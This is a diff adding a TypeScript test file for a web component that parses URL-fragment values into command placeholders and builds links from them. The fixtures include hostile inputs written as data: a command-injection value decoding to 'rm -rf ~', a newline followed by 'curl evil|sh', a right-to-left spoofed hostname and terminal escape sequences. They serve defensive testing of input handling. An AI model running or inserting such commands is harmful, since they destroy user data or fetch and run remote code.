@@ -1,0 +1,83 @@
+import assert from 'node:assert/strict'
+import test from 'node:test'
+import fc from 'fast-check'
+import { fragmentOf, readFragment } from '../../../web/commander/card/linked-values.ts'
+
+const NAMES = ['host', 'port', 'process id', '__proto__']
+
+/** What a fragment says for these names: the values as an object, and the names of those refused. */
+function read(fragment: string, names = NAMES) {
+  const said = readFragment(fragment, names)
+  return said === null ? null : [[...said.values], said.refused]
+}
+
+const READ: Readonly<
+  Record<string, readonly [values: readonly (readonly [string, string])[], refused: readonly string[]]>
+> = {
+  '': [[], []],
+  '#=': [[], []],
+  '#host=db1&port=5432': [
+    [
+      ['host', 'db1'],
+      ['port', '5432'],
+    ],
+    [],
+  ],
+  '#port=5432&host=db1': [
+    [
+      ['host', 'db1'],
+      ['port', '5432'],
+    ],
+    [],
+  ],
+  '#process+id=7': [[['process id', '7']], []],
+  '#process%20id=7': [[['process id', '7']], []],
+  '#__proto__=x': [[['__proto__', 'x']], []],
+  // A name is that of the placeholder to the letter; others count for nothing.
+  '#Host=a&hos=b& host=c&constructor=d': [[], []],
+  '#host=first&host=second': [[['host', 'first']], []],
+  '#host=&port=1': [[['port', '1']], []],
+  '#host=a=b%26c%23d%2Be+f': [[['host', 'a=b&c#d+e f']], []],
+  // Nothing is quoted for the shell: it is shown as it is, as what somebody types is.
+  '#host=x%3B%20rm%20-rf%20~': [[['host', 'x; rm -rf ~']], []],
+  // Shown and named in the line, as in every line that deceives.
+  '#host=%E2%80%AEmoc.live': [[['host', '\u202emoc.live']], []],
+  // Keys to a terminal, or damaged.
+  '#host=db1%0Acurl+evil|sh&port=1': [[['port', '1']], ['host']],
+  '#host=%0D': [[], ['host']],
+  '#host=%09': [[], ['host']],
+  '#host=%1B[2J&port=%00': [[], ['host', 'port']],
+  '#host=%C2%85': [[], ['host']],
+  '#host=%FF': [[], ['host']],
+  [`#host=${'x'.repeat(500)}`]: [[['host', 'x'.repeat(500)]], []],
+  [`#host=${'x'.repeat(501)}`]: [[], ['host']],
+}
+
+test('4. a fragment is read as a form, by the names of the placeholders; what a terminal would take for keys is refused', () => {
+  for (const [fragment, expected] of Object.entries(READ)) assert.deepEqual(read(fragment), expected, fragment)
+})
+
+test('4. a fragment without values names a place in the page, which says nothing of any value', () => {
+  for (const fragment of ['#main', '#host', '#platforms', '#host&port']) assert.equal(read(fragment), null)
+})
+
+test('4. a link says what it was made of, in ASCII, or cannot be made: of nothing that would be refused when it is opened', () => {
+  const name = fc.string({ unit: 'binary', minLength: 1, maxLength: 8 }).filter((text) => text.isWellFormed())
+  const value = fc.string({ unit: 'binary', maxLength: 8 })
+  fc.assert(
+    fc.property(fc.uniqueArray(fc.tuple(name, value), { selector: ([key]) => key }), (given) => {
+      const fragment = fragmentOf(new Map(given))
+      const filled = given.filter(([, text]) => text !== '')
+      const names = given.map(([key]) => key)
+
+      if (fragment !== null && filled.length > 0) {
+        assert.match(fragment, /^#[\w*.+=&%-]+$/)
+        assert.deepEqual(read(fragment, names), [filled, []])
+      } else if (fragment === null) {
+        assert.ok(filled.some(([, text]) => /[\p{Cc}\p{Cs}\ufffd]/u.test(text)))
+      }
+    }),
+  )
+  assert.equal(fragmentOf(new Map([['host', 'x'.repeat(501)]])), null)
+  assert.equal(fragmentOf(new Map([['host', 'a\nb']])), null)
+})
